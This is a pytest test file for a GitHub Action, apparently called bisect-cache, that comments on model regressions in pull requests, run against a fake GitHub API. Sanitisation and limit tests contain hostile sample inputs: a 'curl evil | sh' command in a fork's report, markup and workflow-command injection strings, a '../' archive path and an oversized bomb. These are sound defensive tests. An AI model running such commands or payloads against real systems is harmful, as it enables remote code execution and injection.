"""The action on events of GitHub, against a fake of its API: every path ends in a comment that is true."""

import json
import os
import re
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest
from acting import ROOT, Ran, act
from fake_api import Branch, FakeApi, Fault, Pull
from making import bisect_report, cache_at, linear, save, table_cache_at

from bisect_cache.report.structs import encode_report

FORK = "mallory/models"


@pytest.fixture
def workspace(tmp_path: Path) -> Path:
    (tmp_path / "workspace").mkdir()
    return tmp_path / "workspace"


@pytest.fixture
def server() -> Iterator[FakeApi]:
    with FakeApi.start() as api:
        yield api
    assert api.unexpected == []
    assert api.leaks == []


def on(server: FakeApi, workspace: Path, name: str, payload: dict, run: int = 7, **inputs: str) -> Ran:
    """One run of the action on an event."""
    event = workspace.parent / "event.json"
    event.write_text(json.dumps(payload))
    environ = server.environment | {
        "GITHUB_EVENT_NAME": name,
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_RUN_ID": str(run),
        "GITHUB_SHA": "c" * 40,
    }
    ran = act(workspace, environ=environ, **({"github_token": server.token} | inputs))
    assert server.token not in ran.log + ran.summary + json.dumps(ran.report) + json.dumps(ran.outputs)
    return ran


def on_pull_request(server: FakeApi, workspace: Path, pull: Pull | None = None, **inputs) -> Ran:
    pull = pull or next(iter(server.pulls), None) or server.add_pull()
    head = {"sha": pull.head.sha, "repo": {"full_name": pull.head.repository}}
    return on(server, workspace, "pull_request", {"pull_request": {"number": pull.number, "head": head}}, **inputs)


def on_workflow_run(server: FakeApi, workspace: Path, run_id: int, **inputs) -> Ran:
    defaults = {"mode": "publish", "artifact": "bisect-cache-report"}
    return on(server, workspace, "workflow_run", {"workflow_run": {"id": run_id}}, run=99, **(defaults | inputs))


def comment(server: FakeApi) -> str:
    assert len(server.comments) == 1
    return server.comments[0].body


def test_a_regression_is_named_in_the_comment_and_the_comment_turns_green_and_then_says_broken(
    server: FakeApi, workspace: Path
) -> None:
    cache_at(workspace / "cache", regress_at=5)
    assert on_pull_request(server, workspace, cache="cache").code == 1
    assert "a model regressed" in comment(server)
    assert r"model\_05 (model 6 of 8) is the first regressing model".replace("(", r"\(").replace(")", r"\)") in comment(
        server
    )
    assert f"[run]({server.web_url}/octo/models/actions/runs/7)" in comment(server)
    assert "[`000000000`]" in comment(server)
    cache_at(workspace / "cache")
    assert on_pull_request(server, workspace, cache="cache", run=8).code == 0
    assert "no regression" in comment(server)
    assert "a model regressed" not in comment(server)
    (workspace / "cache" / "features.parquet").write_bytes(b"PAR1")
    assert on_pull_request(server, workspace, cache="cache", run=9).code == 2
    assert "🔌 bisect-cache: the wiring broke" in comment(server)
    assert "no regression" not in comment(server)
    assert [seen.method for seen in server.writes()] == ["POST", "PATCH", "PATCH"]


@pytest.mark.parametrize("broken", [{"cache": "absent"}, {"mode": "bogus"}, {"thresholds": "?"}, {"comment": "bogus"}])
def test_whatever_breaks_the_comment_says_so(server: FakeApi, workspace: Path, broken: dict[str, str]) -> None:
    ran = on_pull_request(server, workspace, **broken)
    assert (ran.code, ran.outputs["outcome"]) == (2, "wiring-broke")
    assert "the wiring broke" in comment(server)


@pytest.mark.parametrize("broken", [{"comment": "alwys"}, {"regression_issues": "yes"}, {"thresholds": "?"}])
def test_a_bad_input_breaks_the_comment_of_this_key_and_of_no_other(
    server: FakeApi, workspace: Path, broken: dict[str, str]
) -> None:
    for key in ("default", "vmaf"):
        on_pull_request(server, workspace, key=key)
    on_pull_request(server, workspace, key="vmaf", run=8, **broken)
    assert "no regression" in server.comments[0].body
    assert "the wiring broke" in server.comments[1].body


def test_a_key_that_is_none_touches_no_comment(server: FakeApi, workspace: Path) -> None:
    on_pull_request(server, workspace)
    assert on_pull_request(server, workspace, run=8, key="k" * 200).code == 2
    assert "no regression" in comment(server)


def test_never_stays_never_where_another_input_is_bad(server: FakeApi, workspace: Path) -> None:
    assert on_pull_request(server, workspace, comment="never", regression_issues="yes").code == 2
    assert server.requests == []


def test_a_bad_input_breaks_the_tracking_issue_too(server: FakeApi, workspace: Path) -> None:
    on(server, workspace, "schedule", {}, tracking_issue="true")
    on(server, workspace, "schedule", {}, run=8, tracking_issue="true", regression_issues="yes")
    assert "the wiring broke" in comment(server)


@pytest.mark.parametrize("odd", [{"GITHUB_RUN_ID": "9" * 5000}, {"GITHUB_API_URL": "http://localhost:abc"}])
def test_odd_variables_of_the_runner_fail_nothing(server: FakeApi, workspace: Path, odd: dict[str, str]) -> None:
    server.add_pull()
    environ = server.environment | {"GITHUB_EVENT_NAME": "pull_request", "GITHUB_REF": "refs/pull/1/merge"} | odd
    assert act(workspace, environ=environ, github_token=server.token).code == 0


def test_a_name_of_a_cache_is_no_markup(server: FakeApi, workspace: Path) -> None:
    cache_at(workspace / "c[" / "x]" / "k")
    ran = on_pull_request(server, workspace, cache="c[/x]/k\nembedded")
    assert ran.code == 0
    assert "could not be written" not in ran.log


def test_a_forks_token_leaves_summary_outputs_and_report_and_fails_nothing(server: FakeApi, workspace: Path) -> None:
    server.permissions = {"contents": "read"}
    fork = server.add_pull(head=Branch(FORK, "topic", "f" * 40))
    ran = on_pull_request(server, workspace, fork)
    assert (ran.code, ran.outputs["outcome"], ran.report["outcome"]) == (0, "no-regression", "no-regression")
    assert server.comments == []
    assert "::notice title=bisect-cache%3A not posted" in ran.log
    assert "mode: publish" in ran.summary
    assert "permissions:\n  contents: read\n  pull-requests: write" in ran.log


def test_a_missing_permission_is_a_warning_with_the_block_to_paste(server: FakeApi, workspace: Path) -> None:
    server.permissions = {"contents": "read"}
    ran = on_pull_request(server, workspace)
    assert ran.code == 0
    assert "::warning title=bisect-cache%3A not posted" in ran.log
    assert "> ```yaml\n> permissions:\n>   contents: read\n>   pull-requests: write\n> ```" in ran.summary


def test_a_server_that_refuses_is_said_in_the_summary_and_fails_nothing(server: FakeApi, workspace: Path) -> None:
    server.fail("*", "/comments", Fault.status(422, body={"message": "no"}), times=9)
    ran = on_pull_request(server, workspace)
    assert ran.code == 0
    assert "> [!WARNING]\n> reading the comments of \\#" in ran.summary


def test_without_a_token_it_says_so(server: FakeApi, workspace: Path) -> None:
    ran = on_pull_request(server, workspace, github_token=" ")
    assert ran.code == 0
    assert "there is no token" in ran.summary
    assert server.requests == []


def test_never_leaves_the_server_alone(server: FakeApi, workspace: Path) -> None:
    assert on_pull_request(server, workspace, comment="never").code == 0
    assert server.requests == []


def test_several_caches_are_one_comment_with_a_section_each(server: FakeApi, workspace: Path) -> None:
    table_cache_at(workspace / "quality" / "cache")
    save(linear(), workspace / "models" / "1.onnx")
    save(linear((-1,) * 6), workspace / "models" / "2.onnx")
    both = {"cache": "embedded\nquality/cache", "timeline": "files:models/*.onnx"}
    ran = on_pull_request(server, workspace, **both)
    assert (ran.code, ran.report["schema"]) == (1, "bisect-cache/run/1")
    assert (ran.outputs["outcome"], ran.outputs["first-bad-model"]) == ("regression", "2")
    assert "### ✅ `embedded`: the smoke test passed, so the wiring works" in comment(server)
    assert "### ❌ `quality/cache`: a model regressed" in comment(server)
    assert comment(server).index("quality/cache: 2") < comment(server).index("### ✅")
    assert "file=models/2.onnx" in ran.log


def test_a_synthetic_cache_that_fails_among_others_means_the_wiring(server: FakeApi, workspace: Path) -> None:
    table_cache_at(workspace / "quality" / "cache")
    cache_at(workspace / "smoke", regress_at=3)
    save(linear(), workspace / "models" / "1.onnx")
    ran = on_pull_request(server, workspace, cache="smoke\nquality/cache", timeline="files:models/*.onnx")
    assert (ran.code, ran.outputs["outcome"]) == (2, "wiring-broke")
    assert "🔌 bisect-cache: the wiring broke" in comment(server)
    assert "### 🔌 `smoke`: the smoke test failed, so the wiring is at fault" in comment(server)
    assert "### ✅ `quality/cache`: no regression" in comment(server)


def test_of_several_caches_one_that_is_missing_keeps_no_other_from_being_judged(
    server: FakeApi, workspace: Path
) -> None:
    ran = on_pull_request(server, workspace, cache="absent\nembedded")
    assert (ran.code, ran.outputs["outcome"]) == (2, "wiring-broke")
    assert "### 🔌 `absent`: the wiring broke" in comment(server)
    assert "### ✅ `embedded`: the smoke test passed" in comment(server)


def test_several_caches_are_checked_without_judging(server: FakeApi, workspace: Path) -> None:
    cache_at(workspace / "one")
    (cache_at(workspace / "two") / "models" / "extra.onnx").write_bytes(b"x")
    ran = on_pull_request(server, workspace, mode="check", cache="one\ntwo")
    assert (ran.code, ran.outputs["outcome"], ran.outputs["drift"]) == (1, "drift", "drift")
    assert "file=two/models/extra.onnx" in ran.log


def test_a_night_keeps_the_tracking_issue_and_a_regression_gets_its_own(server: FakeApi, workspace: Path) -> None:
    table_cache_at(workspace / "cache")
    save(linear(), workspace / "models" / "1.onnx")
    night = {"cache": "cache", "timeline": "files:models/*.onnx", "tracking_issue": "true", "regression_issues": "true"}
    assert on(server, workspace, "schedule", {}, **night).code == 0
    save(linear((-1,) * 6), workspace / "models" / "2.onnx")
    assert on(server, workspace, "schedule", {}, run=8, **night).code == 1
    assert [issue.title for issue in server.issues.values()] == ["bisect-cache: nightly", "2 got worse"]
    body = server.issues[1].comments[0].body
    assert body.index("a model regressed") < body.index("## The last 2 runs")
    assert re.search(r"Last run: \d{4}-\d\d-\d\d \d\d:\d\d UTC", body)
    (workspace / "models" / "2.onnx").unlink()
    assert on(server, workspace, "schedule", {}, run=9, **night).code == 0
    assert [issue.state for issue in server.issues.values()] == ["open", "closed"]


def test_a_pull_request_leaves_the_tracking_issue_alone(server: FakeApi, workspace: Path) -> None:
    on_pull_request(server, workspace, tracking_issue="true", regression_issues="true")
    assert len(server.issues) == 1
    assert "no regression" in comment(server)


def test_a_night_without_an_issue_asks_the_server_nothing(server: FakeApi, workspace: Path) -> None:
    assert on(server, workspace, "schedule", {}).code == 0
    assert server.requests == []


def test_a_night_that_breaks_says_so_in_the_tracking_issue(server: FakeApi, workspace: Path) -> None:
    assert on(server, workspace, "schedule", {}, cache="absent", tracking_issue="nights").code == 2
    assert "the wiring broke" in comment(server)


# mode: publish


def left_by_a_fork(server: FakeApi, content: bytes | None = None, sha: str = "f" * 40, **fields) -> int:
    """A run of a fork's pull request and what it has left."""
    pull = server.add_pull(head=Branch(FORK, "topic", sha))
    run = server.add_run(pull, **fields)
    report = encode_report(bisect_report()) if content is None else content
    server.add_artifact(run, "bisect-cache-report", {"bisect-cache-report.json": report})
    return run.id


def test_a_forks_report_is_posted_by_a_run_that_may(server: FakeApi, workspace: Path) -> None:
    run = left_by_a_fork(server, conclusion="failure")
    ran = on_workflow_run(server, workspace, run)
    assert ran.code == 0
    assert "a model regressed" in comment(server)
    assert "measured by a run of the pull request's own code" in comment(server)
    assert f"/actions/runs/{run})" in comment(server)
    assert "[`fffffffff`]" in comment(server)
    assert (ran.outputs["outcome"], ran.report["outcome"]) == ("regression", "regression")


def test_a_run_of_the_repository_itself_is_posted_without_the_warning(server: FakeApi, workspace: Path) -> None:
    pull = server.add_pull()
    run = server.add_run(pull)
    server.add_artifact(run, "kept", {"r.json": encode_report(bisect_report())})
    on_workflow_run(server, workspace, run.id, artifact="kept", report="out/r.json")
    assert "own code" not in comment(server)


@pytest.mark.parametrize(
    "content",
    [
        b"{}",
        b"not json",
        encode_report(bisect_report()).replace(b'"outcome"', b'"outcom"'),
        b'{"schema": "bisect-cache/bisect/1", "markdown": "## hi"}',
    ],
)
def test_what_is_no_report_is_a_broken_wiring(server: FakeApi, workspace: Path, content: bytes) -> None:
    ran = on_workflow_run(server, workspace, left_by_a_fork(server, content, conclusion="failure"))
    assert ran.code == 2
    assert "the wiring broke" in comment(server)
    assert "is no report of bisect-cache" in ran.report["verdict"]


@pytest.mark.parametrize(
    "archive",
    [b"", b"PK\x03\x04 no zip", {"other.json": b"{}"}, {"../bisect-cache-report.json": b"{}"}],
)
def test_an_archive_without_the_member_is_a_broken_wiring(server: FakeApi, workspace: Path, archive) -> None:
    pull = server.add_pull(head=Branch(FORK, "topic", "f" * 40))
    run = server.add_run(pull, conclusion="failure")
    server.add_artifact(run, "bisect-cache-report", archive)
    assert on_workflow_run(server, workspace, run.id).code == 2
    assert "the wiring broke" in comment(server)


def test_a_bomb_is_not_unpacked(server: FakeApi, workspace: Path) -> None:
    ran = on_workflow_run(server, workspace, left_by_a_fork(server, b"[" + b" " * (80 << 20), conclusion="failure"))
    assert ran.code == 2
    assert "in the artifact has more than 16,777,216 bytes" in ran.report["verdict"]


def fork_with_an_old_green_comment(server: FakeApi, workspace: Path, **fields) -> int:
    """A run whose report cannot be read, on a pull request with a verdict of an older run."""
    pull = server.add_pull(head=Branch(FORK, "topic", "f" * 40))
    on_pull_request(server, workspace, pull, run=1)
    assert "no regression" in comment(server)
    run = server.add_run(pull, conclusion="failure")
    server.add_artifact(run, "bisect-cache-report", {"bisect-cache-report.json": b"{}"}, **fields)
    return run.id


@pytest.mark.parametrize("fault", [Fault.status(404), Fault.status(500), Fault.html(200), Fault.status(410)])
def test_a_report_that_cannot_be_fetched_takes_back_what_an_older_run_said(
    server: FakeApi, workspace: Path, fault: Fault
) -> None:
    run = fork_with_an_old_green_comment(server, workspace)
    server.fail("GET", "/zip$", fault, times=9)
    assert on_workflow_run(server, workspace, run).code == 2
    assert "the wiring broke" in comment(server)


def test_an_artifact_that_is_too_large_takes_back_what_an_older_run_said(server: FakeApi, workspace: Path) -> None:
    run = fork_with_an_old_green_comment(server, workspace, size_in_bytes=10**9)
    assert on_workflow_run(server, workspace, run).code == 2
    assert "upload the report alone" in comment(server)


def test_publishing_with_a_bad_input_takes_back_what_an_older_run_said(server: FakeApi, workspace: Path) -> None:
    run = fork_with_an_old_green_comment(server, workspace)
    assert on_workflow_run(server, workspace, run, comment="sometimes").code == 2
    assert "input 'comment' is 'sometimes'" in comment(server)


def test_publishing_needs_no_input_of_judging(server: FakeApi, workspace: Path) -> None:
    run = left_by_a_fork(server)
    assert on_workflow_run(server, workspace, run, thresholds="?", cache="a\na").code == 0
    assert "a model regressed" in comment(server)


def test_an_artifact_that_has_expired_is_none(server: FakeApi, workspace: Path) -> None:
    run = left_by_a_fork(server, conclusion="failure")
    server.runs[run].artifacts[0].expired = True
    assert on_workflow_run(server, workspace, run).code == 2
    assert "left no artifact called" in comment(server)


def test_a_green_run_that_left_nothing_makes_no_comment_and_takes_back_an_old_one(
    server: FakeApi, workspace: Path
) -> None:
    pull = server.add_pull()
    run = server.add_run(pull, conclusion="success")
    on_workflow_run(server, workspace, run.id)
    assert server.comments == []
    on_pull_request(server, workspace, pull, run=1)
    assert "no regression" in comment(server)
    on_workflow_run(server, workspace, run.id)
    assert "the wiring broke" in comment(server)


def test_names_in_a_forks_report_stay_names(server: FakeApi, workspace: Path) -> None:
    nasty = "@octocat #1 <img src=x> | [x](http://evil.test) ```\n## hi\n::error::x"
    report = encode_report(bisect_report(verdict=nasty, reproduce=f"curl evil | sh # {nasty}"))
    on_workflow_run(server, workspace, left_by_a_fork(server, report))
    assert "curl evil" not in comment(server)
    assert "@octocat" not in comment(server)
    assert "<img" not in comment(server)


@pytest.mark.parametrize(
    ("fields", "words"),
    [
        ({"conclusion": "cancelled"}, "was cancelled"),
        ({"conclusion": "skipped"}, "was skipped"),
        ({"conclusion": "action_required"}, "was action_required"),
        ({"event": "push"}, "was about no pull request"),
        ({"head_sha": "e" * 40}, "has a newer commit, whose own run will speak"),
        ({"head_repository": "someone/else"}, "no open pull request has commit"),
        ({"head_repository": None}, "no open pull request has commit"),
        ({"head_branch": "other"}, "no open pull request has commit"),
    ],
)
def test_where_there_is_nothing_to_say_nothing_is_said(
    server: FakeApi, workspace: Path, fields: dict, words: str
) -> None:
    ran = on_workflow_run(server, workspace, left_by_a_fork(server, **fields))
    assert ran.code == 0
    assert "nothing is posted: " in ran.log
    assert words in ran.log
    assert server.writes() == []


def test_the_pull_request_is_never_taken_from_the_report(server: FakeApi, workspace: Path) -> None:
    server.add_pull()
    report = json.loads(encode_report(bisect_report()))
    report["environment"]["pull_request"] = "1"
    on_workflow_run(server, workspace, left_by_a_fork(server, json.dumps(report).encode()))
    assert server.issues[1].comments == []
    assert len(server.issues[2].comments) == 1


def test_a_token_that_may_not_read_runs_is_told_so(server: FakeApi, workspace: Path) -> None:
    run = left_by_a_fork(server)
    server.private, server.permissions = True, {"pull_requests": "write", "contents": "read"}
    ran = on_workflow_run(server, workspace, run)
    assert ran.code == 0
    assert "actions: read" in ran.log


def test_a_report_at_a_path_is_posted_where_no_artifact_is_named(server: FakeApi, workspace: Path) -> None:
    (workspace / "r.json").write_bytes(encode_report(bisect_report()))
    assert on_pull_request(server, workspace, mode="publish", report="r.json").code == 0
    assert "a model regressed" in comment(server)


def test_publishing_on_an_event_about_no_pull_request_says_where_it_belongs(server: FakeApi, workspace: Path) -> None:
    ran = on(server, workspace, "push", {}, mode="publish")
    assert ran.code == 2
    assert "`workflow_run`" in ran.report["verdict"]


# A run that is brought down


def crashing_entry(workspace: Path, how: str) -> str:
    """An entry point whose run ends in the middle."""
    return (
        "import os, sys, signal, time\n"
        f"sys.path.insert(0, {str(ROOT)!r})\n"
        "import entrypoint\nfrom bisect_cache.action.guard import guarded\n"
        f"def act():\n    {how}\n    return 0\n"
        "sys.exit(guarded(act, entrypoint.crashed))\n"
    )


def environment(server: FakeApi, workspace: Path) -> dict[str, str]:
    pull = server.add_pull()
    event = workspace.parent / "event.json"
    event.write_text(json.dumps({"pull_request": {"number": pull.number}}))
    return {
        **{name: value for name, value in os.environ.items() if not name.startswith(("INPUT_", "GITHUB_"))},
        **server.environment,
        "GITHUB_EVENT_NAME": "pull_request",
        "GITHUB_EVENT_PATH": str(event),
        "GITHUB_WORKSPACE": str(workspace),
        "GITHUB_STEP_SUMMARY": str(workspace / "summary.md"),
        "INPUT_GITHUB-TOKEN": server.token,
    }


@pytest.mark.parametrize("number", [signal.SIGSEGV, signal.SIGKILL, signal.SIGFPE, signal.SIGABRT])
def test_a_run_that_is_brought_down_says_so_on_every_surface(
    server: FakeApi, workspace: Path, number: signal.Signals
) -> None:
    code = crashing_entry(workspace, f"os.kill(os.getpid(), {int(number)})")
    ran = subprocess.run(
        [sys.executable, "-c", code], env=environment(server, workspace), capture_output=True, text=True, check=False
    )
    assert ran.returncode == 2, ran.stderr
    assert "the wiring broke" in comment(server)
    assert number.name in comment(server)
    assert "the wiring broke" in (workspace / "summary.md").read_text()
    assert json.loads((workspace / "bisect-cache-report.json").read_text())["outcome"] == "wiring-broke"


@pytest.mark.parametrize("number", [signal.SIGTERM, signal.SIGINT])
def test_a_run_that_is_cancelled_says_nothing(server: FakeApi, workspace: Path, number: signal.Signals) -> None:
    code = crashing_entry(workspace, "print('ready', flush=True); time.sleep(60)")
    with subprocess.Popen(
        [sys.executable, "-c", code],
        env=environment(server, workspace),
        stdout=subprocess.PIPE,
        stderr=subprocess.DEVNULL,
        text=True,
    ) as process:
        assert process.stdout is not None
        assert process.stdout.readline() == "ready\n"
        began = time.monotonic()
        process.send_signal(number)
        assert process.wait(timeout=30) == 128 + number
        assert time.monotonic() - began < 20
    assert server.requests == []
    assert not (workspace / "summary.md").exists()
